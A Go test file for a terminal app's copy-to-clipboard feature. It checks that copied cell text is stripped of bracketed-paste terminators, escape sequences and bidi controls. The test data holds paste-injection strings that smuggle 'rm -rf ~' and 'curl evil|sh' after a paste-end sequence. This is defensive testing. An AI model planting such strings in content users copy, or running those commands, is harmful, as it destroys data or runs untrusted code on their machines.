package tui

import (
	"encoding/base64"
	"fmt"
	"regexp"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"github.com/triage-dev/triage/model"
)

// pasteEnd is the bracketed-paste end sequence: pasted into a terminal that brackets
// pastes, what follows it runs as if typed.
const pasteEnd = "\x1b[201~"

// clipboardTexts returns the texts a Cmd tree puts on the clipboard: tea.SetClipboard's
// message, and the base64 payload of any raw OSC 52 sequence (tmux and screen passthrough).
func clipboardTexts(t *testing.T, cmd tea.Cmd) []string {
	t.Helper()
	return clipboardTextsOf(t, cmdMsgs(t, cmd))
}

// clipboardTextsOf is clipboardTexts of the messages a Cmd gave.
func clipboardTextsOf(t *testing.T, msgs []tea.Msg) []string {
	t.Helper()
	var out []string
	osc52 := regexp.MustCompile(`\]52;c;([A-Za-z0-9+/=]*)`)
	for _, msg := range msgs {
		name := strings.ToLower(typeName(msg))
		switch {
		case strings.Contains(name, "clipboard"):
			out = append(out, fmt.Sprint(msg))
		case strings.Contains(name, "raw"):
			for _, m := range osc52.FindAllStringSubmatch(fmt.Sprint(msg), -1) {
				b, err := base64.StdEncoding.DecodeString(m[1])
				if err != nil {
					t.Fatalf("bad OSC 52 payload %q: %v", m[1], err)
				}
				out = append(out, string(b))
			}
		}
	}
	return out
}

// checkCopied fails unless every clipboard text of cmd is want, sanitised: no ESC, no other
// C0 control but tab and newline, no C1 control, no bidi control.
func checkCopied(t *testing.T, where string, cmd tea.Cmd, want string) {
	t.Helper()
	texts := clipboardTexts(t, cmd)
	if len(texts) == 0 {
		t.Fatalf("%s: nothing was copied", where)
	}
	for _, s := range texts {
		for _, r := range s {
			if r != '\n' && r != '\t' && model.Unsafe(r) {
				t.Errorf("%s: copied U+%04X: %q", where, r, s)
				break
			}
		}
		if s != want {
			t.Errorf("%s: copied %q, want %q", where, s, want)
		}
	}
}

// `y` copies sanitised text (invariant 9): a cell can't put a bracketed-paste end, an escape
// sequence, a C1 control or a bidi override on the user's clipboard. A message keeps its
// newlines and tabs.
func TestCopySanitises(t *testing.T) {
	evilID := "id-" + pasteEnd + "rm -rf ~\u009b\u202e"
	message := "line one\n\tindented " + pasteEnd + "curl evil|sh\x1b]0;t\x07\nrtl\u2066x\u2069"
	wb := testWorkbook(t)
	rows := inboxRows()
	rows[1][5] = evilID
	rows[1][3] = message
	wb.Tabs[0] = mustDecode(t, model.RoleInbox, rows)

	for _, tmux := range []bool{false, true} {
		m := newLoaded(t, wb, 100, 30)
		m.c.term.tmux = tmux
		where := fmt.Sprintf("tmux=%v", tmux)

		checkCopied(t, where+" y in the table", send(m, press("y")), model.SanitizeText(evilID))

		keys(m, "enter")
		for i := 0; i < len(m.detail.fields); i++ {
			if f, _ := m.detail.focused(); f.label == "Message" {
				break
			}
			keys(m, "tab")
		}
		if f, _ := m.detail.focused(); f.label != "Message" {
			t.Fatalf("can't focus the Message field (at %q)", f.label)
		}
		want := "line one\n\tindented ␛[201~curl evil|sh␛]0;t␇\nrtl⇄x⇄"
		checkCopied(t, where+" y on the message", send(m, press("y")), want)
	}
}

func TestCopy(t *testing.T) {
	m := newLoaded(t, testWorkbook(t), 80, 24)
	cmd := send(m, press("y"))
	if cmd == nil || !strings.Contains(plainScreen(m), "copied ID msg-000") {
		t.Errorf("y copies the ID and says so:\n%s", plainScreen(m))
	}
	if !containsMsg(t, cmd, func(msg tea.Msg) bool { return strings.Contains(strings.ToLower(typeName(msg)), "clipboard") }) {
		t.Errorf("y should return tea.SetClipboard's message")
	}
	keys(m, "enter", "j", "j")
	f, _ := m.detail.focused()
	cmd = send(m, press("y"))
	if cmd == nil || !strings.Contains(plainScreen(m), "copied "+f.label) {
		t.Errorf("y in the detail view copies the focused field %q:\n%s", f.label, plainScreen(m))
	}
}
